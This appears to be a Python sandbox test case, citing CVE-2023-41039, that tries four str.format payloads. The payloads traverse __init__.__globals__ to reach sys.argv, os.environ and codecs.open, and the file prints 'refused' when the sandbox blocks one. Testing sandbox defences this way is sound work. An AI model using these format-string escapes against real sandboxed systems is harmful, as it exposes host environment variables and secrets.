# expect: done
# idea: read the host's environment and arguments through the attribute fields of str.format
# source: CVE-2023-41039
def tick(ctx):
    for text in (
        "{0.__init__.__globals__[base64].__loader__.path}",
        "{0.__init__.__globals__[json].codecs.sys.argv}",
        "{0.__init__.__globals__[json].codecs.sys.modules[os].environ}",
        "{0.__init__.__globals__[json].codecs.open}",
    ):
        try:
            print(text.format(type(ctx)))
        except Exception as error:
            print("refused:", error)
